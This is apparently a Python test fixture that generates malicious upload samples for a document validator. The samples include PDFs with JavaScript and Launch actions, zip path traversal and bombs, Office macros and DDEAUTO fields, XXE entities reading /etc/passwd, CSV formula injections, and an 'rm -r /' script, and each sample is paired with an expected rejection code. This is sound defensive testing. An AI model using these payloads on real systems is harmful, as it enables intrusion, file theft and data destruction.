"""Files that somebody with bad intentions would send, made by code.

Each with the code of its refusal; what the mutations of sound files are is below.
"""

import io
import random
import struct
import zipfile
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from typing import Any

import pikepdf
from pikepdf import Array, Dictionary, Name, String

from tests.documents import (
    office,
    office_parts,
    open_document,
    pdf,
    picture,
    sound,
    tie,
    zipped,
)
from tracking.files.kinds import ENTRIES, INFLATED_BYTES, MEGABYTE, PAGES

OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 504
SVG = b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'
HTML = b"<!DOCTYPE html><script>alert(1)</script>"


@dataclass(frozen=True)
class Hostile:
    what: str
    name: str
    content: bytes
    code: str

    @property
    def extension(self) -> str:
        return self.name.rpartition(".")[2].lower()


def corpus() -> list[Hostile]:
    parts = (_wrong, _pdfs, _archives, _offices, _open_documents, _images, _texts)
    return [Hostile(*each) for part in parts for each in part()]


Row = tuple[str, str, bytes, str]


def _wrong() -> Iterator[Row]:
    """Extensions that lie, and types that are not taken."""
    good = sound()
    for name in ("pdf", "docx", "xlsx", "pptx", "odt", "ods", "jpg", "png", "txt"):
        yield f"empty {name}", f"a.{name}", b"", "empty"
    yield "a page as PDF", "a.pdf", HTML, "content"
    yield "a programme as PDF", "a.pdf", b"MZ" + b"\0" * 200, "content"
    yield "a picture as PDF", "a.pdf", good["scan.png"], "content"
    yield "a PDF as picture", "a.png", good["law.pdf"], "content"
    yield "a JPEG as PNG", "a.png", good["photo.jpg"], "content"
    yield "a PNG as JPEG", "a.jpg", good["scan.png"], "content"
    yield "a table as text", "a.docx", good["table.xlsx"], "content"
    yield "a text as slides", "a.pptx", good["law.docx"], "content"
    yield "ODS as ODT", "a.odt", good["table.ods"], "content"
    yield "ODT as DOCX", "a.docx", good["law.odt"], "content"
    yield "DOCX as ODT", "a.odt", good["law.docx"], "content"
    yield "an old document as DOCX", "a.docx", OLE, "password"
    yield "a protected table", "a.xlsx", OLE, "password"
    yield "an old document as ODT", "a.odt", OLE, "password"
    yield "a zip as DOCX", "a.docx", zipped([("a.txt", "a")]), "content"
    for extension in (
        *("svg", "html", "htm", "xhtml", "xml", "js", "exe", "dll", "bat", "cmd"),
        *("ps1", "vbs", "hta", "lnk", "scr", "jar", "zip", "rar", "7z", "gz", "iso"),
        *("doc", "xls", "ppt", "docm", "dotm", "xlsm", "xlsb", "xlam", "pptm", "ppsm"),
        *("rtf", "eml", "msg", "swf", "php", "py", "sh", "gif", "webp", "tiff", "bmp"),
        *("heic", "mht", "url", "desktop", "iqy", "slk", "dotx", "odp", "odg", "epub"),
    ):
        yield f"type {extension}", f"a.{extension}", good["law.pdf"], "type"


# PDF ------------------------------------------------------------------------


def _at(*path: str, value: Callable[[], Any]) -> Callable[[pikepdf.Pdf], None]:
    """Put a value into the catalogue, or deeper, by its keys."""

    def change(document: pikepdf.Pdf) -> None:
        place: Any = document.Root
        for key in path[:-1]:
            if key not in place:
                place[key] = Dictionary()
            place = place[key]
        place[path[-1]] = value()

    return change


def _on_page(**entries: Any) -> Callable[[pikepdf.Pdf], None]:
    """Put an annotation on the first page."""

    def change(document: pikepdf.Pdf) -> None:
        note = Dictionary(Type=Name.Annot, Rect=Array([0, 0, 9, 9]), **entries)
        document.pages[0].obj.Annots = Array([document.make_indirect(note)])

    return change


def _script() -> Dictionary:
    return Dictionary(S=Name.JavaScript, JS=String("app.alert(1)"))


def _attached(document: pikepdf.Pdf) -> None:
    document.attachments["a.exe"] = b"MZ"


def _stray(document: pikepdf.Pdf) -> None:
    """An action that nothing refers to, found by those who look at every object."""
    document.Root.Keep = document.make_indirect(Dictionary(A=_script()))


def _streamed(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"app.alert(1)")
    document.Root.OpenAction = Dictionary(S=Name.JavaScript, JS=stream)


def _outside(document: pikepdf.Pdf) -> None:
    stream = document.make_stream(b"")
    stream.F = String("\\\\host\\share\\a")
    stream.FFilter = Name.FlateDecode
    document.Root.Keep = stream


def _deep(document: pikepdf.Pdf) -> None:
    place: Any = Dictionary(URI=String("file:///a"), S=Name.Nothing)
    for _step in range(90):
        place = Dictionary(A=place)
    document.Root.Keep = document.make_indirect(place)


PDFS: list[tuple[str, Callable[[pikepdf.Pdf], None], str]] = [
    ("script at opening", _at("/OpenAction", value=_script), "active"),
    ("script in a stream", _streamed, "active"),
    (
        "script by name",
        _at(
            "/Names",
            "/JavaScript",
            value=lambda: Dictionary(Names=Array([String("a"), _script()])),
        ),
        "active",
    ),
    ("script in a note", _on_page(Subtype=Name.Link, A=_script()), "active"),
    (
        "script when a page opens",
        lambda d: d.pages[0].obj.__setattr__("AA", Dictionary(O=_script())),
        "active",
    ),
    (
        "script of the document",
        _at("/AA", value=lambda: Dictionary(WC=_script())),
        "active",
    ),
    ("script that nothing names", _stray, "active"),
    (
        "script after another action",
        _on_page(
            Subtype=Name.Link,
            A=Dictionary(S=Name.GoTo, D=Array([0, Name.Fit]), Next=_script()),
        ),
        "active",
    ),
    (
        "script in a field",
        _at(
            "/AcroForm",
            value=lambda: Dictionary(
                Fields=Array([Dictionary(T=String("a"), AA=Dictionary(K=_script()))])
            ),
        ),
        "active",
    ),
    (
        "a programme",
        _at(
            "/OpenAction",
            value=lambda: Dictionary(S=Name.Launch, F=String("cmd.exe")),
        ),
        "active",
    ),
    (
        "a programme in a note",
        _on_page(
            Subtype=Name.Link,
            A=Dictionary(S=Name.Launch, Win=Dictionary(F=String("cmd.exe"))),
        ),
        "active",
    ),
    (
        "a form of its own kind",
        _at("/AcroForm", "/XFA", value=lambda: String("<xdp/>")),
        "active",
    ),
    (
        "a form that sends",
        _on_page(
            Subtype=Name.Widget, A=Dictionary(S=Name.SubmitForm, F=String("http://a"))
        ),
        "active",
    ),
    (
        "a form that fetches",
        _on_page(
            Subtype=Name.Widget, A=Dictionary(S=Name.ImportData, F=String("//host/a"))
        ),
        "active",
    ),
    (
        "another file at opening",
        _at(
            "/OpenAction",
            value=lambda: Dictionary(S=Name.GoToR, F=String("\\\\host\\a.pdf")),
        ),
        "active",
    ),
    (
        "a page within at opening",
        _at("/OpenAction", value=lambda: Dictionary(S=Name.GoToE, F=String("a"))),
        "active",
    ),
    (
        "an address at opening",
        _at(
            "/OpenAction", value=lambda: Dictionary(S=Name.URI, URI=String("http://a"))
        ),
        "active",
    ),
    (
        "a link to a file",
        _on_page(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("file:///etc/a"))
        ),
        "active",
    ),
    (
        "a link to a script",
        _on_page(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("javascript:a()"))
        ),
        "active",
    ),
    (
        "a link to a share",
        _on_page(
            Subtype=Name.Link, A=Dictionary(S=Name.URI, URI=String("\\\\host\\share"))
        ),
        "active",
    ),
    ("a stream that is elsewhere", _outside, "active"),
    ("a file inside", _attached, "carrying"),
    (
        "a file in a note",
        _on_page(Subtype=Name.FileAttachment, FS=Dictionary(F=String("a"))),
        "carrying",
    ),
    ("a film", _on_page(Subtype=Name.Movie), "carrying"),
    ("a sound", _on_page(Subtype=Name.Sound), "carrying"),
    ("a screen", _on_page(Subtype=Name.Screen), "carrying"),
    ("rich media", _on_page(Subtype=Name.RichMedia), "carrying"),
    ("a solid", _on_page(Subtype=Name("/3D")), "carrying"),
    ("a portfolio", _at("/Collection", value=Dictionary), "carrying"),
    ("a nest", _deep, "bulk"),
]


def _pdfs() -> Iterator[Row]:
    good = pdf()
    for what, change, code in PDFS:
        yield f"PDF: {what}", "a.pdf", pdf(change), code
        packed = pdf(change, object_stream_mode=pikepdf.ObjectStreamMode.generate)
        yield f"PDF, packed: {what}", "a.pdf", packed, code
    locked = pikepdf.Encryption(owner="o", user="u")
    yield "PDF with a password", "a.pdf", pdf(encryption=locked), "password"
    owned = pikepdf.Encryption(owner="o", user="")
    yield "PDF with rights", "a.pdf", pdf(encryption=owned), "password"
    yield "PDF of many pages", "a.pdf", pdf(pages=PAGES + 1), "pages"
    yield "PDF and zip", "a.pdf", good + zipped([("a.txt", "a")]), "content"
    yield "PDF and page", "a.pdf", good + HTML, "content"
    yield "page and PDF", "a.pdf", HTML + good, "content"
    yield "space and PDF", "a.pdf", b"\n" + good, "content"
    yield "half a PDF", "a.pdf", good[: len(good) // 2], "content"
    yield "PDF without an end", "a.pdf", good.replace(b"%%EOF", b""), "content"
    yield "PDF of version 9", "a.pdf", b"%PDF-9.9" + good[8:], "content"
    yield "PDF, heading only", "a.pdf", b"%PDF-1.7\n%%EOF\n", "content"
    spoilt = good.replace(b"startxref", b"startxxxx")
    yield "PDF without a table", "a.pdf", spoilt, "content"
    hidden = good.replace(b"%%EOF", b"9 0 obj<</S/J#61vaScript/JS(a)>>endobj\n%%EOF", 1)
    yield "script in no table", "a.pdf", hidden, "active"
    empty = pdf(pages=0)
    yield "PDF without pages", "a.pdf", empty, "content"


# Archives -------------------------------------------------------------------


def _entry(name: str, content: str = "a", **fields: Any) -> bytes:
    """A DOCX with one more entry, whose header says what is asked."""
    archive = io.BytesIO(office("docx"))
    with zipfile.ZipFile(archive, "a", zipfile.ZIP_DEFLATED) as file:
        info = zipfile.ZipInfo(name)
        for key, value in fields.items():
            setattr(info, key, value)
        file.writestr(info, content)
    return archive.getvalue()


def _patched(content: bytes, mark: bytes, place: int, value: bytes) -> bytes:
    """Bytes written over every header of a kind."""
    out, start = bytearray(content), 0
    while (start := content.find(mark, start)) >= 0:
        out[start + place : start + place + len(value)] = value
        start += 4
    return bytes(out)


def _overlapping() -> bytes:
    """Every entry of the directory points to the first one."""
    content = bytearray(office("docx"))
    start = 0
    while (start := content.find(b"PK\1\2", start)) >= 0:
        content[start + 42 : start + 46] = bytes(4)
        start += 4
    return bytes(content)


def _twice(name: str) -> bytes:
    archive = io.BytesIO(office("docx"))
    with zipfile.ZipFile(archive, "a") as file:
        file.NameToInfo.clear()
        file.writestr(name, "<a/>")
    return archive.getvalue()


def _swollen() -> bytes:
    """Little room for a great deal."""
    return office("docx", parts={"word/media/a.png": bytes(30 * MEGABYTE)})


def _enormous() -> bytes:
    """Much more than may be unpacked, at a ratio that alone would pass."""
    noise = random.Random(1).randbytes(3 * MEGABYTE)  # noqa: S311 - the same every time
    rest = bytes(INFLATED_BYTES // 7)
    media = {f"word/media/{number}.png": rest for number in range(8)}
    return office("docx", parts={"word/media/a.png": noise, **media})


def _crowded() -> bytes:
    media = {f"word/media/{number}.png": b"" for number in range(ENTRIES)}
    return office("docx", parts=media)


def _within() -> bytes:
    inner = office("xlsx", parts={"xl/embeddings/b.xlsx": office("xlsx")})
    return office("docx", parts={"word/embeddings/a.xlsx": inner})


def _archives() -> Iterator[Row]:
    good = office("docx")
    local, central = b"PK\3\4", b"PK\1\2"
    for name in (
        *("../a.xml", "/etc/passwd", "word/../../a.xml", "..\\a.xml", "C:\\a.xml"),
        *("word/a\x01.xml", "word/a|b.xml", "word\\a.xml", "word/a?.xml"),
    ):
        yield f"entry {name!r}", "a.docx", _entry(name), "content"
    link = {"external_attr": 0o120777 << 16}
    yield "a link", "a.docx", _entry("word/a.png", "/etc/passwd", **link), "content"
    device = {"external_attr": 0o020666 << 16}
    yield "a device", "a.docx", _entry("word/a.png", "", **device), "content"
    for what, place in (("lzma", b"\x0e\0"), ("bzip2", b"\x0c\0"), ("none", b"\x63\0")):
        odd = _patched(_patched(good, local, 8, place), central, 10, place)
        yield f"packed by {what}", "a.docx", odd, "content"
    coded = _patched(_patched(good, local, 6, b"\1\0"), central, 8, b"\1\0")
    yield "protected entries", "a.docx", coded, "password"
    half_coded = _patched(good, local, 6, b"\1\0")
    yield "headers that differ", "a.docx", half_coded, "content"
    renamed = good.replace(b"word/document.xml", b"word/documenX.xml", 1)
    yield "names that differ", "a.docx", renamed, "content"
    yield "overlapping entries", "a.docx", _overlapping(), "content"
    yield "the same entry twice", "a.docx", _twice("word/document.xml"), "content"
    yield "the same but for case", "a.docx", _twice("WORD/document.xml"), "content"
    yield "something before", "a.docx", b"MZ" + good, "content"
    yield "a page before", "a.docx", HTML + good, "content"
    yield "something behind", "a.docx", good + b"a", "content"
    yield "a comment", "a.docx", good[:-2] + b"\4\0MZ..", "content"
    yield "another zip behind", "a.docx", good + zipped([("a", "a")]), "content"
    yield "half a zip", "a.docx", good[: len(good) // 2], "content"
    yield "wrong checksums", "a.docx", _patched(good, central, 16, b"1234"), "content"
    longer = _patched(good, central, 24, struct.pack("<L", 10**6))
    yield "wrong lengths", "a.docx", longer, "content"
    far = _patched(good, central, 42, struct.pack("<L", 2**31))
    yield "places outside", "a.docx", far, "content"
    parts = good[:-14] + b"\xff\xff\xff\xff" + good[-10:]
    yield "wrong number of entries", "a.docx", parts, "bulk"
    yield "a bomb", "a.docx", _swollen(), "bulk"
    yield "a slow bomb", "a.docx", _enormous(), "bulk"
    yield "a crowd of entries", "a.docx", _crowded(), "bulk"
    yield "documents in documents", "a.docx", _within(), "object"
    text = zlib.compress(b"a" * 100)[2:-4]
    cut = zipped([("a", text)])[:60]
    yield "the beginning of a zip", "a.docx", cut, "content"


# Documents of office programmes ---------------------------------------------


def _offices() -> Iterator[Row]:
    yield from _macros()
    yield from _objects()
    yield from _outsiders()
    for missing in ("[Content_Types].xml", "_rels/.rels", "word/document.xml"):
        parts = office_parts("docx")
        del parts[missing]
        yield f"without {missing}", "a.docx", zipped(parts.items()), "content"
    lol = '<!DOCTYPE a [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><a>&b;</a>'
    fetch = '<!DOCTYPE a [<!ENTITY a SYSTEM "file:///etc/passwd">]><a>&a;</a>'
    remote = '<!DOCTYPE a SYSTEM "http://example.org/a.dtd"><a/>'
    for what, text in (
        ("entities", lol),
        ("an outside entity", fetch),
        ("an outside type", remote),
        ("broken markup", "<a><b></a>"),
        ("no markup", "a"),
        ("an unknown coding", '<?xml version="1.0" encoding="utf-7"?><a/>'),
    ):
        for extension, name in (("docx", "word/a.xml"), ("xlsx", "xl/a.xml")):
            content = office(extension, parts={name: text})
            yield f"{extension}: {what}", f"a.{extension}", content, "content"
    ties = office("docx", parts={"word/_rels/a.xml.rels": lol})
    yield "entities in ties", "a.docx", ties, "content"


def _macros() -> Iterator[Row]:
    vba = (
        '<Default Extension="bin" ContentType="application/vnd.ms-office.vbaProject"/>'
    )
    enabled = (
        '<Override PartName="/a.xml" ContentType="application/vnd.ms-word.document.'
        'macroEnabled.main+xml"/>'
    )
    folders = {"docx": "word", "xlsx": "xl", "pptx": "ppt"}
    for extension, folder in folders.items():
        name = f"a.{extension}"
        part = office(extension, parts={f"{folder}/vbaProject.bin": OLE})
        yield f"{extension}: a macro", name, part, "macro"
        data = office(extension, parts={f"{folder}/vbaData.xml": "<a/>"})
        yield f"{extension}: data of a macro", name, data, "macro"
        yield f"{extension}: macro by type", name, office(extension, types=vba), "macro"
        kind = office(extension, types=enabled)
        yield f"{extension}: macros enabled", name, kind, "macro"
        tied = office(extension, ties=tie("vbaProject", "a.bin"))
        yield f"{extension}: macro by tie", name, tied, "macro"
        hidden = office(extension, parts={f"{folder}/VBAPROJECT.BIN": OLE})
        yield f"{extension}: macro in capitals", name, hidden, "macro"
    sheet = office("xlsx", parts={"xl/macrosheets/sheet1.xml": "<a/>"})
    yield "a sheet of macros", "a.xlsx", sheet, "macro"
    dialogue = office("xlsx", parts={"xl/dialogsheets/sheet1.xml": "<a/>"})
    yield "a sheet of dialogues", "a.xlsx", dialogue, "macro"
    for action in ("ppaction://program", "ppaction://macro?name=a", "ppaction://ole"):
        click = office("pptx", f'<p:a action="{action}"/>')
        yield f"a click for {action}", "a.pptx", click, "macro"


def _objects() -> Iterator[Row]:
    ole = (
        '<Override PartName="/word/a.bin" ContentType="application/vnd.openxmlformats-'
        'officedocument.oleObject"/>'
    )
    for name, content in (
        ("word/embeddings/oleObject1.bin", OLE),
        ("word/embeddings/a.exe", b"MZ"),
        ("word/embeddings/a.docx", b"no zip"),
        ("word/activeX/activeX1.xml", "<a/>"),
        ("word/activeX/activeX1.bin", OLE),
        ("word/ctrlProps/a.xml", "<a/>"),
        ("word/afchunk.mht", HTML),
        ("word/media/image1.png", OLE),
        ("word/media/image2.png", b"MZ" + bytes(99)),
        ("word/media/image3.png", b"\x7fELF" + bytes(99)),
        ("word/media/image4.png", zipped([("a", "a")])),
        ("word/media/image5.png", b"%PDF-1.7"),
    ):
        code = "content" if content == b"no zip" else "object"
        part = office("docx", parts={name: content})
        yield f"inside: {name}", "a.docx", part, code
    yield "an object by type", "a.docx", office("docx", types=ole), "object"
    for kind in ("oleObject", "control", "activeXControlBinary", "aFChunk", "ctrlProp"):
        tied = office("docx", ties=tie(kind, "a"))
        yield f"an object by tie {kind}", "a.docx", tied, "object"
    chunk = office("docx", '<w:altChunk r="a"/>')
    yield "a page inside", "a.docx", chunk, "object"
    macro = office("xlsx", parts={"xl/vbaProject.bin": OLE})
    inner = office("pptx", parts={"ppt/embeddings/a.xlsx": macro})
    yield "a macro inside a table", "a.pptx", inner, "macro"


def _outsiders() -> Iterator[Row]:
    for kind, target in (
        ("attachedTemplate", "http://example.org/a.dotm"),
        ("image", "http://example.org/a.png"),
        ("image", "\\\\host\\share\\a.png"),
        ("frame", "http://example.org/a"),
        ("subDocument", "file:///a.docx"),
        ("video", "http://example.org/a"),
        ("hyperlink", "file:///C:/Windows/System32/calc.exe"),
        ("hyperlink", "javascript:alert(1)"),
        ("hyperlink", "java\nscript:alert(1)"),
        ("hyperlink", "vbscript:a"),
        ("hyperlink", "data:text/html,a"),
        ("hyperlink", "ms-msdt:/id"),
        ("hyperlink", "ms-word:ofe|u|http://a"),
        ("hyperlink", "\\\\host\\share"),
        ("hyperlink", "//host/share"),
    ):
        target = target.replace("\n", "&#10;")
        tied = office("docx", ties=tie(kind, target, external=True))
        yield f"outside: {kind} {target}", "a.docx", tied, "outside"
    root = office("docx", root_ties=tie("image", "http://a/", external=True))
    yield "outside, from the root", "a.docx", root, "outside"
    for name in ("xl/externalLinks/externalLink1.xml", "xl/connections.xml"):
        part = office("xlsx", parts={name: "<a/>"})
        yield f"outside: {name}", "a.xlsx", part, "outside"
    query = office("xlsx", parts={"xl/queryTables/queryTable1.xml": "<a/>"})
    yield "outside: a query", "a.xlsx", query, "outside"
    for kind in ("externalLink", "externalLinkPath", "connections", "queryTable"):
        tied = office("xlsx", ties=tie(kind, "a"))
        yield f"outside by tie {kind}", "a.xlsx", tied, "outside"
    for field in (
        'DDEAUTO c:\\windows\\system32\\cmd.exe "/k calc.exe"',
        "DDE Excel a b",
        'INCLUDEPICTURE "http://example.org/a.png"',
        'INCLUDETEXT "file:///etc/passwd"',
        " ddeauto a b ",
    ):
        simple = office("docx", f"<w:fldSimple w:instr='{field}'/>")
        yield f"a field {field}", "a.docx", simple, "outside"
        whole = f"<w:p><w:instrText>{field}</w:instrText></w:p>"
        yield f"a text {field}", "a.docx", office("docx", whole), "outside"
        split = "".join(f"<w:instrText>{letter}</w:instrText>" for letter in field)
        content = office("docx", f"<w:p>{split}</w:p>")
        yield f"letters of {field}", "a.docx", content, "outside"


def _open_documents() -> Iterator[Row]:
    for extension in ("odt", "ods"):
        name = f"a.{extension}"
        for what, options, code in OPEN_DOCUMENTS:
            content = open_document(extension, **options)
            yield f"{extension}: {what}", name, content, code
        entries = {"content.xml": "<a/>", "META-INF/manifest.xml": "<a/>"}
        yield f"{extension}: no type", name, zipped(entries.items()), "content"
        kind = f"application/vnd.oasis.opendocument.{extension}"
        late = zipped([*entries.items(), ("mimetype", kind)])
        yield f"{extension}: type at the end", name, late, "content"
        bare = zipped([("mimetype", kind)], zipfile.ZIP_STORED)
        yield f"{extension}: nothing but a type", name, bare, "content"


OPEN_DOCUMENTS: list[tuple[str, dict[str, Any], str]] = [
    ("Basic", {"parts": {"Basic/Standard/Module1.xml": "<a/>"}}, "macro"),
    ("Python", {"parts": {"Scripts/python/a.py": "import os"}}, "macro"),
    ("Java", {"parts": {"a.jar": zipped([("a", "a")])}}, "macro"),
    ("a listener", {"body": '<script:event-listener script:language="a"/>'}, "macro"),
    ("a script", {"body": '<office:script script:language="a"/>'}, "macro"),
    (
        "a script declared",
        {
            "manifest": '<manifest:file-entry manifest:media-type="application/'
            'binary;script" manifest:full-path="a"/>'
        },
        "macro",
    ),
    ("an object", {"body": '<draw:object-ole xlink:href="./a"/>'}, "object"),
    ("an applet", {"body": "<draw:applet/>"}, "object"),
    ("a plug-in", {"body": "<draw:plugin/>"}, "object"),
    ("a frame", {"body": "<draw:floating-frame/>"}, "object"),
    ("an OLE part", {"parts": {"Object 1": OLE}}, "object"),
    ("a programme", {"parts": {"Pictures/a.png": b"MZ" + bytes(99)}}, "object"),
    ("DDE", {"body": "<office:dde-source/>"}, "outside"),
    ("DDE declared", {"body": "<text:dde-connection-decl/>"}, "outside"),
    ("cells of elsewhere", {"body": "<table:cell-range-source/>"}, "outside"),
    (
        "a picture of elsewhere",
        {"body": '<draw:image xlink:href="http://example.org/a.png"/>'},
        "outside",
    ),
    (
        "a picture of a share",
        {"body": '<draw:image xlink:href="//host/a"/>'},
        "outside",
    ),
    ("a picture outside", {"body": '<draw:image xlink:href="../a.png"/>'}, "outside"),
    (
        "a section of elsewhere",
        {"body": '<text:section-source xlink:href="file:///a.odt"/>'},
        "outside",
    ),
    (
        "a link to a macro",
        {"body": '<text:a xlink:href="vnd.sun.star.script:a"/>'},
        "outside",
    ),
    ("a link to a script", {"body": '<text:a xlink:href="javascript:a"/>'}, "outside"),
    ("a link to a file", {"body": '<text:a xlink:href="file:///a.exe"/>'}, "outside"),
    ("a password", {"manifest": "<manifest:encryption-data/>"}, "password"),
    ("entities", {"parts": {"a.xml": '<!DOCTYPE a [<!ENTITY b "c">]><a/>'}}, "content"),
    ("broken markup", {"body": "<office:text>"}, "content"),
    (
        "a template",
        {"kind": "application/vnd.oasis.opendocument.text-template"},
        "content",
    ),
    ("a path", {"parts": {"../a.xml": "<a/>"}}, "content"),
    ("a bomb", {"parts": {"Pictures/a.png": bytes(30 * MEGABYTE)}}, "bulk"),
]


# Pictures and texts ---------------------------------------------------------


def _chunk(kind: bytes, data: bytes) -> bytes:
    crc = zlib.crc32(kind + data)
    return struct.pack("!L", len(data)) + kind + data + struct.pack("!L", crc)


def _png(width: int, height: int, data: bytes = b"", *more: bytes) -> bytes:
    head = struct.pack("!2L5B", width, height, 8, 2, 0, 0, 0)
    return (
        b"\x89PNG\r\n\x1a\n"
        + _chunk(b"IHDR", head)
        + b"".join(more)
        + _chunk(b"IDAT", zlib.compress(data))
        + _chunk(b"IEND", b"")
    )


def _images() -> Iterator[Row]:
    good, photo = picture("PNG"), picture("JPEG")
    yield "a huge PNG", "a.png", _png(50_000, 50_000), "pixels"
    yield "a long PNG", "a.png", _png(2**31 - 1, 1), "pixels"
    yield "just too many pixels", "a.png", _png(8_000, 5_001), "pixels"
    wide = photo.replace(
        b"\xff\xc0\0\x11\x08\0\x1e\0\x28", b"\xff\xc0\0\x11\x08\xff\xff\xff\xff"
    )
    yield "a huge JPEG", "a.jpg", wide, "pixels"
    yield "PNG without pixels", "a.png", _png(0, 0), "content"
    yield "PNG with few bytes", "a.png", _png(100, 100, b"a"), "content"
    text = _chunk(b"zTXt", b"a\0\0" + zlib.compress(bytes(80 * MEGABYTE)))
    yield "a bomb of text", "a.png", _png(1, 1, b"\0" * 4, text), "content"
    yield "half a PNG", "a.png", good[: len(good) // 2], "content"
    yield "half a JPEG", "a.jpg", photo[: len(photo) // 2], "content"
    yield "a mark only, PNG", "a.png", good[:8], "content"
    yield "a mark only, JPEG", "a.jpg", photo[:3], "content"
    yield "a wrong checksum", "a.png", _patched(good, b"IHDR", 17, b"9999"), "content"
    for name in ("a.png", "a.jpg"):
        yield f"SVG as {name}", name, SVG, "content"
        yield f"a page as {name}", name, HTML, "content"
        yield f"GIF as {name}", name, picture("GIF", mode="P"), "content"
        yield f"TIFF as {name}", name, picture("TIFF"), "content"
        yield f"WEBP as {name}", name, picture("WEBP"), "content"
        yield f"PostScript as {name}", name, b"%!PS-Adobe-3.0\n", "content"


def _texts() -> Iterator[Row]:
    for what, content, code in (
        ("zeros", b"\0" * 20, "content"),
        ("a zero", b"a\0b", "content"),
        ("a bell", b"a\x07b", "content"),
        ("an escape", b"\x1b[31mred", "content"),
        ("a backspace", b"a\x08b", "content"),
        ("a late control", "a\x9bb".encode(), "content"),
        ("a lone surrogate", b"a\xed\xa0\x80b", "coding"),
        ("an overlong slash", b"..\xc0\xaf..", "coding"),
        ("an older code page", "Été".encode("cp1252"), "coding"),
        ("Arabic of an older page", "مرحبا".encode("cp1256"), "coding"),
        ("UTF-32", "a".encode("utf-32"), "coding"),
        ("half of UTF-16", b"\xff\xfea", "coding"),
        ("nothing but space", b" \n\n", "empty"),
        ("a mark only", b"\xef\xbb\xbf", "empty"),
        ("a page", HTML, "content"),
        ("a page after space", b"\n\n  " + HTML, "content"),
        ("a marked page", b"\xef\xbb\xbf" + HTML, "content"),
        ("a wide page", HTML.decode().encode("utf-16"), "content"),
        ("SVG", SVG, "content"),
        ("XML", b'<?xml version="1.0"?><a/>', "content"),
        ("PHP", b"<?php system('a');", "content"),
        ("RTF", b"{\\rtf1 a}", "content"),
        ("a shell script", b"#!/bin/sh\nrm -r /", "content"),
        ("a batch", b"@echo off\r\ndel *", "content"),
        ("a shortcut", b"[InternetShortcut]\nURL=file:///a", "content"),
        ("a mail", b"MIME-Version: 1.0\n\na", "content"),
        ("a PDF", pdf(), "content"),
        ("a picture", picture("PNG"), "content"),
        ("a document", office("docx"), "content"),
        ("a programme", b"MZ\x90\0\3\0\0\0", "content"),
    ):
        for name in ("a.txt", "a.csv"):
            yield f"{name}: {what}", name, content, code
    for cell in (
        "=cmd|'/C calc'!A0",
        "+cmd|'/C calc'!A0",
        "-2+3+cmd|'/C calc'!A0",
        "@SUM(1+1)*cmd|'/C calc'!A0",
        "＝cmd|'/C calc'!A0",
        '=HYPERLINK("http://a/?"&A1,"a")',
        '=WEBSERVICE("http://a/"&A1)',
        '=IMPORTXML("http://a","//a")',
        '=IMPORTDATA("http://a")',
        '=IMAGE("http://a")',
        '=RTD("a",,"b")',
        '=CALL("urlmon","URLDownloadToFileA","JJCCJJ")',
        '=DDE("cmd";"/C calc";"!A0")',
    ):
        for line in (cell, f"a;{cell}", f"a,{cell}", f"a\t{cell}", f'a,"{cell}"'):
            content = f"a;b\r\n{line}\r\n".encode()
            yield f"a cell {line}", "a.csv", content, "call"


# Mutations ------------------------------------------------------------------


def mutated(number: int, rng: random.Random) -> Iterator[tuple[str, bytes]]:
    """`number` broken descendants of each sound file, the same for the same `rng`."""
    good = sound()
    contents = list(good.values())
    for name, content in good.items():
        for _time in range(number):
            yield name, rng.choice(MUTATIONS)(content, rng.choice(contents), rng)


def _flip(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    out = bytearray(content)
    for _time in range(rng.choice((1, 1, 2, 8, 40))):
        out[rng.randrange(len(out))] ^= 1 << rng.randrange(8)
    return bytes(out)


def _overwrite(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    out = bytearray(content)
    place = rng.randrange(len(out))
    value = rng.choice((b"\xff" * 4, b"\0" * 4, b"\x7f\xff\xff\xff", b"../../", b"<!"))
    out[place : place + len(value)] = value
    return bytes(out)


def _cut(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    return content[: rng.randrange(len(content))]


def _behead(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    return content[rng.randrange(1, len(content)) :]


def _remove(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(len(content))
    return content[:start] + content[start + rng.randrange(1, 64) :]


def _repeat(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(len(content))
    end = start + rng.randrange(1, 200)
    return content[:end] + content[start:end] * rng.randrange(1, 5) + content[end:]


def _join(content: bytes, other: bytes, rng: random.Random) -> bytes:
    return content + other


def _precede(content: bytes, other: bytes, rng: random.Random) -> bytes:
    return other + content


def _splice(content: bytes, other: bytes, rng: random.Random) -> bytes:
    return content[: rng.randrange(len(content))] + other[rng.randrange(len(other)) :]


def _noise(content: bytes, _other: bytes, rng: random.Random) -> bytes:
    start = rng.randrange(len(content))
    return content[:start] + rng.randbytes(rng.randrange(1, 300)) + content[start:]


MUTATIONS = (
    *(_flip, _flip, _overwrite, _cut, _behead, _remove),
    *(_repeat, _join, _precede, _splice, _noise),
)
